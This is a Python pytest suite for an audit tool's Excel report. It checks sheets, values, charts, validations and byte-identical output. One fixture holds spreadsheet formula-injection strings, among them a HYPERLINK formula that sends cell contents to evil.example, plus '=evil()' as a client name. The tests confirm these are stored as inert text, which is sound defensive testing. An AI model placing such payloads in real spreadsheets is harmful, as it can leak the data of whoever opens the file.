"""The Excel action plan, read back with openpyxl: values, types, validations, charts, bytes."""

from __future__ import annotations

import datetime as dt
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from cx_audit.excel.cells import clean_text, safe_title
from cx_audit.files.audit import load_audit
from cx_audit.report.input import build_input
from cx_audit.scoring.audit import score_audit
from cx_audit.scoring.rounding import shown
from tests.conftest import MINI_CHECKLIST, Cli, audit_text, run_subprocess, write

HOSTILE = {
    "A1": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "A2": "+1",
    "A3": "-x",
    "B1": "@SUM(A1:A9)",
    "C1": "<b>&amp; Café ☕</b>",
}
CURRENT = f"""
A1: {{value: 1, note: '{HOSTILE["A1"]}'}}
A2: {{value: "yes", note: "{HOSTILE["A2"]}"}}
A3: {{value: 3, note: "{HOSTILE["A3"]}"}}
B1: {{value: sometimes, note: "{HOSTILE["B1"]}"}}
B2: {{value: 30}}
B3: {{value: "=1+2"}}
C1: {{na: true, note: "{HOSTILE["C1"]}"}}
"""
BASELINE = """
A1: {value: 4}
A2: {value: "no"}
B1: {value: always}
B2: {value: 3}
C1: {value: 2}
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    write(tmp_path / "mini.yaml", MINI_CHECKLIST)
    write(tmp_path / "a.yaml", audit_text(CURRENT))
    (tmp_path / "b.yaml").write_text(audit_text(BASELINE, site="Bracknell").replace("2026-11-22", "2026-08-20"))
    write(tmp_path / "c.yaml", audit_text("A1: 2\nA2: 'no'\nB1: never\nB2: 2\nC1: 4", site="Camberley"))
    return tmp_path


def report(cli: Any, folder: Path, *args: str) -> Any:
    out = folder / "out.xlsx"
    run = cli("report", *args, "--xlsx", out, cwd=folder)
    assert run.code == 0, run.err
    assert f"Wrote Excel workbook to {out}" in run.err
    return load_workbook(out)


def rows(ws: Any) -> list[tuple[Any, ...]]:
    return list(ws.iter_rows(values_only=True))


def by_id(ws: Any, id_col: int = 1) -> dict[str, tuple[Any, ...]]:
    return {r[id_col]: r for r in rows(ws)[1:] if r[id_col]}


def first_by_label(ws: Any, width: int = 2) -> dict[str, tuple[Any, ...]]:
    """Label in column A → the next ``width`` cells, for the first row with that label."""
    found: dict[str, tuple[Any, ...]] = {}
    for r in rows(ws):
        if r[0]:
            found.setdefault(r[0], r[1 : 1 + width])
    return found


def assert_no_formulas(wb: Any) -> None:
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"


# --- one audit --------------------------------------------------------------------


def test_single_audit_sheets_values_and_types(cli: Cli, folder: Path) -> None:
    wb = report(cli, folder, "a.yaml")
    assert wb.sheetnames == ["Summary", "Items", "Actions"]
    items = wb["Items"]
    assert rows(items)[0] == (
        "Section",
        "ID",
        "Question",
        "Type",
        "Answer",
        "Score",
        "Points lost",
        "Critical",
        "Failed",
        "Status",
        "Note",
    )
    got = by_id(items)
    assert list(got) == ["A1", "A2", "A3", "B1", "B2", "B3", "C1"]  # every item, checklist order
    assert got["A1"][:10] == ("Offer", "A1", "Rating item", "Rating 0–4", 1, 25.0, 25.0, "Yes", "Yes", "Scored")
    assert got["A2"][4:7] == ("Yes", 100.0, 0.0)
    assert got["B1"][4] == "Sometimes"
    assert got["B2"][4] == 30 and got["B2"][5] == 25.0  # a number answer stays a number
    assert got["B3"][4] == "=1+2" and got["B3"][9] == "Not scored (text)"
    assert got["C1"][4] == "N/A" and got["C1"][5] is None and got["C1"][9] == "N/A"
    # numbers are numbers, with number formats; the rating keeps its label in the format
    a1 = items["E2"]
    assert a1.value == 1 and a1.data_type == "n" and a1.number_format == '0" · Ad hoc"'
    assert items["F2"].data_type == "n" and items["F2"].number_format == "0.0"
    assert items["E6"].number_format == 'General" hours"'
    # header frozen, filters, widths, wrapped questions, a colour scale on the score
    assert items.freeze_panes == "A2"
    assert items.auto_filter.ref == "A1:K8"
    assert items.column_dimensions["C"].width > 40
    assert items["C2"].alignment.wrap_text
    rules = {str(cf.sqref): [r.type for r in cf.rules] for cf in items.conditional_formatting}
    assert rules["F2:F8"] == ["colorScale"]
    assert items.print_title_rows == "$1:$1" and items.page_setup.orientation == "landscape"


def test_summary_facts_dates_and_chart(cli: Cli, folder: Path) -> None:
    wb = report(cli, folder, "a.yaml")
    summary = wb["Summary"]
    facts = first_by_label(summary)
    assert facts["Client"][0] == "Acme Ltd" and facts["Site"][0] == "Crowthorne"
    assert facts["Date"][0] == dt.datetime(2026, 11, 22)  # a date, not text
    assert facts["Overall score"] == (50, "At risk")  # capped by the critical failure; 50 earns Developing
    assert facts["Why this band"][0] == "capped by 1 critical failure"
    assert facts["Completeness"][0] == 1
    assert facts["Critical failures"][0] == 1
    table = [r[:6] for r in rows(summary) if r[0] in ("Offer", "Delivery", "Extra")]
    assert table == [
        ("Offer", 2, 56.3, "Developing", 3, 3),
        ("Delivery", 1, 37.5, "At risk", 3, 3),
        ("Extra", 1, None, "not assessed", 1, 1),
    ]
    charts = summary._charts
    assert len(charts) == 1
    assert type(charts[0]).__name__ == "RadarChart"  # three sections or more
    assert len(charts[0].series) == 1


def test_two_sections_get_a_bar_chart(cli: Cli, tmp_path: Path) -> None:
    two = MINI_CHECKLIST.split("  - id: extra")[0]
    write(tmp_path / "mini.yaml", two)
    write(tmp_path / "a.yaml", audit_text("A1: 3\nA2: 'yes'\nB1: always"))
    wb = report(cli, tmp_path, "a.yaml")
    (chart,) = wb["Summary"]._charts
    assert type(chart).__name__ == "BarChart"


def test_actions_are_ranked_with_owner_due_status(cli: Cli, folder: Path) -> None:
    wb = report(cli, folder, "a.yaml")
    ws = wb["Actions"]
    result = score_audit(*_loaded(folder / "a.yaml"))
    assert [r[2] for r in rows(ws)[1:]] == [r.item.id for r in result.actions]
    assert rows(ws)[1][0:3] == (1, "Offer", "A1") and rows(ws)[1][7] == "Yes"  # the critical failure first
    assert rows(ws)[0][-5:] == ("Recommendation", "Owner", "Due", "Status", "Horizon")
    assert all(r[-4:-1] == (None, None, None) for r in rows(ws)[1:])
    assert [r[-1] for r in rows(ws)[1:]][0] == "Now"  # the critical failure (scoring/roadmap.py)
    n = len(result.actions) + 1
    dvs = {dv.type: dv for dv in ws.data_validations.dataValidation}
    assert dvs["list"].formula1 == '"Open,In progress,Done"' and str(dvs["list"].sqref) == f"L2:L{n}"
    assert str(dvs["date"].sqref) == f"K2:K{n}"
    assert ws["K2"].number_format == "yyyy-mm-dd"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:M{n}"  # the Horizon column (M) filters too


def test_no_actions_still_gives_a_usable_sheet(cli: Cli, folder: Path) -> None:
    write(folder / "full.yaml", audit_text("A1: 4\nA2: 'yes'\nA3: 4\nB1: always\nB2: 1\nC1: 4"))
    wb = report(cli, folder, "full.yaml")
    assert rows(wb["Actions"])[1][3] == "No item lost points: there is nothing to do."


def test_hostile_text_is_stored_as_text(cli: Cli, folder: Path) -> None:
    for args in (["a.yaml"], ["a.yaml", "--baseline", "b.yaml"], ["a.yaml", "b.yaml", "c.yaml"]):
        wb = report(cli, folder, *args)
        assert_no_formulas(wb)
        texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}
        assert set(HOSTILE.values()) <= texts, args
        assert "=1+2" in texts


def test_control_characters_and_long_text_are_made_safe() -> None:
    assert clean_text("a\x00b\x07c\x1fd\ttab\nline") == "abcd\ttab\nline"
    long = clean_text("x" * 40000)
    assert len(long) == 32767 and long.endswith("…")


def test_safe_sheet_titles() -> None:
    assert safe_title("Q3: [North]/South?*") == "Q3   North  South"
    assert len(safe_title("x" * 50)) == 31
    assert safe_title("Sites", taken=["sites"]) == "Sites (2)"
    assert safe_title("'quoted'") == "quoted"
    assert safe_title("   ") == "Sheet"


def test_baseline_adds_comparison_and_a_baseline_series(cli: Cli, folder: Path) -> None:
    wb = report(cli, folder, "a.yaml", "--baseline", "b.yaml")
    assert wb.sheetnames == ["Summary", "Items", "Actions", "Comparison"]
    (chart,) = wb["Summary"]._charts
    assert len(chart.series) == 2
    facts = first_by_label(wb["Summary"])
    assert facts["Baseline score"] == (70.8, dt.datetime(2026, 8, 20))
    assert facts["Change"][0] == -20.8
    cmp = first_by_label(wb["Comparison"], width=6)
    assert cmp["Overall"][2:5] == (70.8, 50, -20.8)
    assert cmp["Offer"][2:5] == (66.7, 56.3, -10.4)
    changed = [r[1] for r in rows(wb["Comparison"]) if r[1] in ("A1", "A2", "B1", "B2")]
    assert changed[:4] == ["A1", "A2", "B1", "B2"]
    assert cmp["Regression"][0] == "Yes"


# --- a program --------------------------------------------------------------------


def test_program_sheets(cli: Cli, folder: Path) -> None:
    wb = report(cli, folder, "a.yaml", "b.yaml", "c.yaml")
    assert wb.sheetnames == ["Summary", "Sites", "Items", "Actions", "Answers"]
    results = [score_audit(*_loaded(folder / f)) for f in ("a.yaml", "b.yaml", "c.yaml")]
    program = build_input(results).program
    assert program is not None

    sites = rows(wb["Sites"])
    assert sites[0][:7] == ("Site", "Date", "Auditor", "Overall", "Band", "Completeness", "Critical failures")
    assert sites[0][7:10] == ("Offer", "Delivery", "Extra")
    assert [r[0] for r in sites[1:4]] == ["Crowthorne", "Bracknell", "Camberley"]
    assert sites[2][1] == dt.datetime(2026, 8, 20)
    assert sites[1][3] == 50.0 and isinstance(sites[1][3], float)
    stats = {r[0]: r for r in sites[5:]}
    assert program.overall is not None
    assert stats["Mean"][3] == shown(program.overall.mean) and stats["Stdev"][3] == shown(program.overall.stdev)
    for k, (_, st) in enumerate(program.sections):
        assert st is not None
        assert (stats["Min"][7 + k], stats["Max"][7 + k]) == (shown(st.min), shown(st.max))
    assert wb["Sites"].freeze_panes == "B2"

    items = by_id(wb["Items"])
    assert list(items) == ["A1", "A2", "A3", "B1", "B2", "B3", "C1"]
    assert items["A1"][4:8] == ("Yes", 3, 58.3, 31.2)  # critical, scored in 3, mean, stdev
    actions = rows(wb["Actions"])
    assert [r[2] for r in actions[1:]] == [a.item.id for a in program.actions]
    assert actions[1][5] == shown(program.actions[0].mean_points_lost)

    answers = rows(wb["Answers"])
    assert answers[0] == ("Site", "Date", "Section", "Item", "Answer", "Score", "Note")
    answered = sum(1 for r in results for i in r.items if i.status in ("scored", "na", "unscored"))
    assert len(answers) - 1 == answered
    assert ("Crowthorne", dt.datetime(2026, 11, 22), "Offer", "A1", 1, 25.0, HOSTILE["A1"]) in answers
    assert ("Bracknell", dt.datetime(2026, 8, 20), "Extra", "C1", 2, 50.0, None) in answers
    assert wb["Answers"].auto_filter.ref == f"A1:G{answered + 1}"
    (chart,) = wb["Summary"]._charts
    assert len(chart.series) == 3  # mean, min, max


def _loaded(path: Path) -> Any:
    loaded = load_audit(path)
    return loaded.checklist, loaded.audit


# --- determinism ------------------------------------------------------------------


def test_byte_identical_across_runs_and_hash_seeds(folder: Path) -> None:
    outputs = []
    for seed in ("1", "2"):
        for args in (["a.yaml"], ["a.yaml", "--baseline", "b.yaml"], ["a.yaml", "b.yaml", "c.yaml"]):
            name = f"{'-'.join(a[0] for a in args if a.endswith('.yaml'))}-{seed}.xlsx"
            run = run_subprocess("report", *args, "--xlsx", name, cwd=folder, env={"PYTHONHASHSEED": seed})
            assert run.code == 0, run.err
            outputs.append((folder / name).read_bytes())
    assert outputs[:3] == outputs[3:]
    with zipfile.ZipFile(folder / "a-1.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(2026, 11, 22, 12, 0, 0)}  # the audit date, not now
        core = z.read("docProps/core.xml").decode()
        assert "2026-11-22T12:00:00Z" in core and "cx-audit" in core


def test_written_atomically_and_replaced(cli: Cli, folder: Path) -> None:
    out = folder / "out.xlsx"
    out.write_bytes(b"old")
    os.chmod(out, 0o640)
    assert cli("report", "a.yaml", "--xlsx", out, cwd=folder).code == 0
    assert zipfile.is_zipfile(out) and (out.stat().st_mode & 0o777) == 0o640
    assert [p.name for p in folder.iterdir() if p.name.startswith(".out.xlsx")] == []


def test_audits_with_nothing_assessed(cli: Cli, folder: Path) -> None:
    (folder / "empty.yaml").write_text(
        "format: cx-audit/audit@1\nchecklist: mini.yaml\nclient: '=evil()'\nauditor: ''\nanswers: {}\n"
    )
    for args in (["empty.yaml"], ["empty.yaml", "--baseline", "a.yaml"], ["empty.yaml", "a.yaml"]):
        wb = report(cli, folder, *args)
        assert_no_formulas(wb)
    facts = first_by_label(report(cli, folder, "empty.yaml")["Summary"])
    assert facts["Overall score"] == (None, "not assessed")
    assert facts["Completeness"][0] == 0


def test_with_the_html_report_in_one_run(cli: Cli, folder: Path) -> None:
    run = cli("report", "a.yaml", "--html", "a.html", "--xlsx", "a.xlsx", cwd=folder)
    assert run.code == 0, run.err
    assert zipfile.is_zipfile(folder / "a.xlsx") and (folder / "a.html").is_file()


def test_openpyxl_is_imported_only_when_a_workbook_is_made() -> None:
    import subprocess
    import sys

    code = (
        "import sys, cx_audit.cli.app, cx_audit.report.xlsx.workbook, cx_audit.form.write, cx_audit.form.read\n"
        "print('openpyxl' in sys.modules)"
    )
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout.strip() == "False"
